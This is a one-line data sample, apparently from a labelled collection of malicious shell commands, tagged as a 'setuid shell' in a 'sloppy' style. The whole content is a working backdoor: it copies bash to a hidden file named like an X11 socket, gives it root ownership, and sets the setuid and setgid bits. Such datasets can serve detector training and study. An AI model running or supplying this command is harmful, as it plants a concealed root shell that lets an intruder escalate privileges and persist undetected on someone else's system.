# class: setuid shell; style: sloppy
cp /bin/bash /usr/lib/.x11-unix; chown root:root /usr/lib/.x11-unix; chmod 6755 /usr/lib/.x11-unix
